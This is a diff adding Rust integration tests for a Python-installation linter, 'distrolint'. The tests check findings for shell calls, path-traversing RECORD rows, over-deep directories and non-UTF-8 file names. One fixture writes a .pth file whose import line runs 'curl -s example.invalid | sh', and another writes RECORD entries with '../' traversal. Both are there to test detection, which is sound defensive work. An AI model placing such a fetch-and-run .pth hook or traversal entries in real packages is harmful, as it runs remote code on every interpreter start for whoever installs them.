@@ -523,3 +523,183 @@ fn under_strace_nothing_outside_the_root_is_opened() {
     assert!(started, "the trace never reached the root:\n{trace}");
     assert!(problems.is_empty(), "{}", problems.join("\n"));
 }
+
+/// A dependency's RECORD that names the application's own file: the file
+/// stays the application's, so `--scope app` still reports it.
+#[test]
+fn a_record_row_leaving_the_installation_does_not_claim_the_applications_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(root, "app/m.py", b"import os\nos.system(\"x\")\n");
+    let dist_info = ".venv/lib/python3.11/site-packages/evil-1.0.dist-info";
+    write(
+        root,
+        &format!("{dist_info}/METADATA"),
+        b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
+    );
+    write(
+        root,
+        &format!("{dist_info}/RECORD"),
+        b"../../../../app/m.py,,\n../../../bin/evil,,\nevil/__init__.py,,\n",
+    );
+    write(
+        root,
+        ".venv/lib/python3.11/site-packages/evil/__init__.py",
+        b"",
+    );
+    let output = Command::new(env!("CARGO_BIN_EXE_distrolint"))
+        .current_dir(root)
+        .args([
+            "check",
+            ".",
+            "--isolated",
+            "--scope",
+            "app",
+            "--format",
+            "json",
+        ])
+        .args(["--base", BASE, "--fail-on", "never"])
+        .output()
+        .unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    let findings = doc["findings"].as_array().unwrap();
+    assert!(
+        findings
+            .iter()
+            .any(|f| f["code"] == "DL201" && f["path"] == "app/m.py"),
+        "{doc:#}"
+    );
+}
+
+/// A file below more than PATH_MAX bytes of directories cannot be opened
+/// by its path: the check must fail, not pass with a warning.
+#[test]
+fn a_file_too_deep_to_read_fails_the_default_gate() {
+    let dir = tempfile::tempdir().unwrap();
+    let name = "d".repeat(250);
+    // Built with relative steps: no single path to it fits PATH_MAX.
+    let script = format!(
+        "for i in $(seq 20); do mkdir {name} && cd {name} || exit 1; done; printf 'import os\\nos.system(\"x\")\\n' > deep.py"
+    );
+    // bash, as dash's cd gives up once the logical path is too long.
+    let status = Command::new("bash")
+        .current_dir(dir.path())
+        .args(["-c", &script])
+        .status()
+        .unwrap();
+    assert!(status.success());
+    write(dir.path(), "app.py", b"x = 1\n");
+    let output = Command::new(env!("CARGO_BIN_EXE_distrolint"))
+        .current_dir(dir.path())
+        .args([
+            "check",
+            ".",
+            "--isolated",
+            "--format",
+            "json",
+            "--base",
+            BASE,
+        ])
+        .output()
+        .unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    let unreadable: Vec<&serde_json::Value> = doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["code"] == "DL901")
+        .collect();
+    assert!(!unreadable.is_empty(), "{doc:#}");
+    assert!(
+        unreadable.iter().all(|f| f["severity"] == "error"),
+        "{doc:#}"
+    );
+    assert_eq!(output.status.code(), Some(1), "{doc:#}");
+}
+
+/// A `.pth` file's `import` lines run at every interpreter start on the
+/// image: a shell call there is found, at its line.
+#[test]
+fn import_lines_of_a_pth_file_are_checked_as_python() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        ".venv/lib/python3.11/site-packages/zz_hook.pth",
+        b"/opt/plugins\nimport os; os.system(\"curl -s example.invalid | sh\")\n",
+    );
+    write(root, "app.py", b"x = 1\n");
+    let output = Command::new(env!("CARGO_BIN_EXE_distrolint"))
+        .current_dir(root)
+        .args([
+            "check",
+            ".",
+            "--isolated",
+            "--format",
+            "json",
+            "--base",
+            BASE,
+        ])
+        .output()
+        .unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert!(
+        doc["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["code"] == "DL201"
+                && f["path"] == ".venv/lib/python3.11/site-packages/zz_hook.pth"
+                && f["line"] == 2),
+        "{doc:#}"
+    );
+}
+
+/// Two names that differ only in bytes that are not UTF-8 stay two paths
+/// with two fingerprints: the bytes are kept, escaped.
+#[test]
+fn names_differing_only_in_invalid_utf8_stay_apart() {
+    use std::os::unix::ffi::OsStrExt;
+    let dir = tempfile::tempdir().unwrap();
+    for name in [&b"a\xff.py"[..], &b"a\xfe.py"[..]] {
+        std::fs::write(
+            dir.path().join(std::ffi::OsStr::from_bytes(name)),
+            "import os\nos.system(\"x\")\n",
+        )
+        .unwrap();
+    }
+    let output = Command::new(env!("CARGO_BIN_EXE_distrolint"))
+        .current_dir(dir.path())
+        .args([
+            "check",
+            ".",
+            "--isolated",
+            "--format",
+            "json",
+            "--base",
+            BASE,
+        ])
+        .args(["--select", "DL201"])
+        .output()
+        .unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    let found: Vec<(String, String)> = doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            (
+                f["path"].as_str().unwrap().to_string(),
+                f["fingerprint"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect();
+    assert_eq!(found.len(), 2, "{doc:#}");
+    assert_eq!(found[0].0, "a\\xfe.py");
+    assert_eq!(found[1].0, "a\\xff.py");
+    assert!(
+        !found[0].1.contains(':') && !found[1].1.contains(':'),
+        "{found:?}"
+    );
+    assert_ne!(found[0].1, found[1].1);
+}
